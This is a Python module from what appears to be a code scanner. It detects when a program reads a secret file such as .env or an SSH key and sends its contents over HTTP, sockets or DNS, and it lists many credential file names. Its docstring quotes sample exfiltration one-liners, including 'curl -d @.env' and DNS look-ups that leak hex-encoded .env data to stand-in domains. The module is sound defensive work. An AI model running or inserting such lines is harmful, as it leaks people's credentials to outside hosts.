"""A project's secret file read in interpreter code and handed to a network call.

``requests.post(u, data=open('.env').read())``, ``fetch(u, {method: 'POST', body:
require('fs').readFileSync('.env', 'utf8')})``, ``Net::HTTP.post(uri, File.read('.env'))``:
the read of a secret file (a string literal that :func:`._secrets.secret_file` names, as an
argument of a file-reading call, seen through ``path.join``/``Path``) reaching the arguments
of a sending call (:func:`._codesend.send_calls`: HTTP, sockets, DNS look-ups such as
``socket.gethostbyname(open('.env').read().hex()[:60] + '.e.example')``), directly or through
a variable bound to it (``d = open('.env').read()``, ``with open('.env') as f``, and one more
assignment), is exfiltration, like ``curl -d @.env`` or ``dig $(cat .env | xxd -p).e.x``.
A variable used in an auth header (``headers={'Authorization': tok}``) is how a client
authenticates and is not counted; one in another header (``headers={'X-Data': d}``) is sent
data. Writes to files (``f.write``) are not sends; reading ``.env.example``, or a read
printed locally, passes.

Gated on a network module name and a secret file name appearing in the text; every scan is
bounded (occurrence counts, windows).
"""

from __future__ import annotations

import re

from ._code import literals
from ._codesend import send_calls
from ._gate import word_gate
from ._hdrdata import auth_header
from ._langapi import _NET_GATE_RE, _statement_var
from ._langpaths import name_before
from ._secrets import secret_file
from ._words import Field

__all__ = ["secret_file_read", "secret_file_sent"]

# Distinctive pieces of the secret file names (a text holding none reads no such file).
_NAME_GATE = (".env", ".netrc", ".pgpass", "history", "id_rsa", "id_ed25519", "id_ecdsa",
              "id_dsa", "credentials", ".lesshst", ".viminfo", ".npmrc", ".pypirc", ".key",
              ".pem", ".tfstate", ".tfvars", ".p12", ".pfx", "secret", "token.json",
              ".vault-token", "kubeconfig", "service-account", "service_account",
              ".dockercfg", ".htpasswd", "kaggle.json", "key.json", ".ppk", ".kdbx",
              ".jks", ".keystore", "admin.conf", "master.key")
_NAME_GATE_RE = word_gate(_NAME_GATE)
# Calls (last name) that read the file named by their first argument.
_READERS = frozenset({"open", "readFileSync", "readFile", "read_text", "read_bytes", "read",
                      "file_get_contents", "fopen", "readTextFile", "readTextFileSync",
                      "readFileStr", "file", "binread", "readlines", "ReadAllText",
                      "ReadAllBytes", "readAllBytes", "readString", "createReadStream",
                      "readAll", "slurp", "foreach", "IO.read", "readfile", "read_file",
                      "sysopen", "readLines", "read_lines", "readChar", "readRDS",
                      "read_file_to_string", "readBin"})
# Calls that only spell a path: the call around them (or a .read_text() after) reads it.
_PATHS = frozenset({"join", "Path", "PurePath", "resolve", "abspath", "expanduser", "realpath",
                    "normpath", "of", "get", "new", "URL", "fspath"})
_PATH_READS = (".read_text(", ".read_bytes(", ".open(", ".text(", ".arrayBuffer(",
               ".readlines(")
_AUTH_MARKS = ("header", "authorization", "auth=", "auth:", "auth'", 'auth"', "bearer")
_DATA_MARKS = ("data", "body", "json", "files", "content", "params", "payload")
_MAX = 20000
# Reads without brackets: perl's open (a word, not a method) and a reader before the literal.
_BARE_OPEN = re.compile(r"(?<![\w$>:.])(?:sys)?open[ \t]+")
_BARE_READ = re.compile(r"(?<![\w$])(?:[\w:]{1,40}\.)?(?:read|readlines|binread|foreach|"
                        r"slurp|read_file|file_get_contents|readfile)[ \t]+(?=[\"'])")


def _enclosing(code: str, pos: int) -> int:
    """The unmatched ``(`` before ``pos`` within 200 characters, or -1."""
    depth = 0
    j = pos - 1
    floor = max(0, pos - 200)
    while j >= floor:
        ch = code[j]
        if ch == ")":
            depth += 1
        elif ch == "(":
            if depth == 0:
                return j
            depth -= 1
        j -= 1
    return -1


def _close(code: str, at: int, limit: int = 2000) -> int:
    """The position of the bracket closing the one at ``at`` (bounded)."""
    depth = 0
    j = at
    end = min(len(code), at + limit)
    while j < end:
        ch = code[j]
        depth += 1 if ch in "([{" else -1 if ch in ")]}" else 0
        if depth == 0:
            return j
        j += 1
    return j


def _short(name: str) -> str:
    return name.rsplit(".", 1)[-1].rsplit("->", 1)[-1].rsplit("::", 1)[-1]


def _read_call(code: str, start: int) -> int:
    """The ``(`` of the file-reading call a literal at ``start`` names the file of, or -1."""
    paren = _enclosing(code, start)
    for _ in range(3):
        if paren < 0:
            return -1
        name, _at = name_before(code, paren)
        short = _short(name)
        if short in _READERS or name in _READERS:
            return paren
        if short not in _PATHS:
            return -1
        end = _close(code, paren, 400)
        if code.startswith(_PATH_READS, end + 1):
            return paren  # Path('.env').read_text()
        paren = _enclosing(code, paren)
    return -1


def _bound(code: str, pos: int, paren: int) -> set[str]:
    """Names bound to the read at ``pos``: ``d = open(..)``, ``with open(..) as f``."""
    names: set[str] = set()
    var = _statement_var(code, pos)
    if var:
        names.add(var)
    end = _close(code, paren, 400)
    rest = code[end + 1:end + 40].lstrip(" \t")
    if rest.startswith("as "):
        word = rest[3:].lstrip(" \t")
        k = 0
        while k < len(word) and (word[k].isalnum() or word[k] == "_"):
            k += 1
        if k:
            names.add(word[:k])
    return names


def _uses(region: str, var: str) -> bool:
    """``var`` appears in ``region`` as a whole name, outside an auth header."""
    k = region.find(var)
    for _ in range(16):
        if k == -1:
            return False
        before = region[k - 1:k] if k else ""
        after = region[k + len(var):k + len(var) + 1]
        if not (before.isalnum() or before in ("_", "$", ".")) and not (
                after.isalnum() or after in ("_", "'", '"')):
            window = region[max(0, k - 80):k].lower()
            auth = max(window.rfind(m) for m in _AUTH_MARKS)
            data = max(window.rfind(m) for m in _DATA_MARKS)
            if auth == -1 or data > auth or _data_header(window):
                return True
        k = region.find(var, k + 1)
    return False


def _data_header(window: str) -> bool:
    """``window`` (lowercased, up to a use) ends with a header key that is no auth header
    (``headers={'x-data': d``): the value is data the request carries, not a login."""
    head = window.rstrip(" \t")
    if head.endswith("=>"):
        head = head[:-2].rstrip(" \t")
    elif head.endswith(":"):
        head = head[:-1].rstrip(" \t")
    else:
        return False
    if not head or head[-1] not in "'\"":
        return False
    start = head.rfind(head[-1], 0, len(head) - 1)
    key = head[start + 1:-1] if start != -1 else ""
    return bool(key) and not auth_header(key)


def _handle(code: str, at: int) -> str:
    """Perl's file handle named first after ``open`` (``open(my $f, ..``, ``open F, ..``)."""
    rest = code[at:at + 48].lstrip(" \t(")
    for kw in ("my ", "our ", "local "):
        rest = rest.removeprefix(kw).lstrip(" \t")
    k = 0
    while k < len(rest) and (rest[k].isalnum() or rest[k] in "_$"):
        k += 1
    return rest[:k] if k and rest[k:].lstrip(" \t").startswith(",") else ""


def _bare_read(code: str, start: int) -> int:
    """Where the call reading the literal at ``start`` without brackets ends (``open my $f,
    '<', '.env'``, ``File.read '.env'``), or -1; -1 for a write (``open F, '>', ..``)."""
    floor = max(0, start - 120)
    head = max(code.rfind(";", floor, start), code.rfind("\n", floor, start),
               code.rfind("{", floor, start)) + 1
    m = _BARE_OPEN.search(code, head, start) or _BARE_READ.search(code, head, start + 1)
    if m is None or _writes(code[m.end():start]):
        return -1
    return m.end()


def _writes(between: str) -> bool:
    """Perl's open mode before the file name writes it or runs a command (``'>'``, ``'-|'``)."""
    return any(w in between for w in ('">', "'>", '"+>', "'+>", '"|', "'|", '"-|', "'-|"))


def _spots(code: str) -> list[tuple[int, int, str]]:
    """(literal start, reading call's paren or end, perl handle) per secret file read."""
    spots: list[tuple[int, int, str]] = []
    named = 0
    for start, _end, text in literals(code, "`" in code):
        value = text[1:]
        if not value or len(value) > 200 or _NAME_GATE_RE.search(value) is None:
            continue
        if value[0] == "<" or value[:2] == "+<":  # perl's 2-argument open: '<.env'
            value = value.lstrip("+< \t")
        if not secret_file([Field(value, (0, 0))]):
            continue
        named += 1
        if named > 32 or len(spots) >= 8:
            break
        paren = _read_call(code, start)
        if paren >= 0:
            name, _at = name_before(code, paren)
            if _writes(code[paren:start]):
                continue  # open(my $f, '>', '.env')
            spots.append((start, paren, _handle(code, paren + 1) if _short(name) in (
                "open", "sysopen") else ""))
        elif (end := _bare_read(code, start)) >= 0:
            spots.append((start, end, _handle(code, end)))
    return spots


def secret_file_read(code: str) -> bool:
    """True when ``code`` reads a secret file (what it prints may be the file's contents)."""
    if len(code) > _MAX or _NAME_GATE_RE.search(code) is None:
        return False
    return bool(_spots(code))


def secret_file_sent(code: str) -> str:
    """``net`` or ``dns`` when a secret file read in ``code`` reaches the arguments of a
    network call or a DNS look-up (:func:`._codesend.send_calls`), else ``""``."""
    if len(code) > _MAX or _NET_GATE_RE.search(code) is None or \
            _NAME_GATE_RE.search(code) is None:
        return ""
    found = _spots(code)
    if not found:
        return ""
    spots = [(start, paren) for start, paren, _h in found]
    names: set[str] = {h for _s, _p, h in found if h}  # open my $f, '<', '.env': $f
    for pos, paren in spots:
        names |= _bound(code, pos, paren)
    for var in sorted(names):  # one more assignment: data = f.read()
        k = code.find(var)
        for _ in range(8):
            if k == -1:
                break
            again = _statement_var(code, k)
            if again and again != var:
                names.add(again)
            k = code.find(var, k + 1)
    names = {n for n in names if len(n) < 64}
    readers = frozenset(paren for _pos, paren in spots)
    for at, stop, kind in send_calls(code, readers):  # only the calls named like senders
        end = stop if stop >= 0 else _close(code, at)
        if any(at < pos < end for pos, _paren in spots):
            return kind
        region = code[at:end]
        if any(_uses(region, var) for var in sorted(names)):
            return kind
    return ""
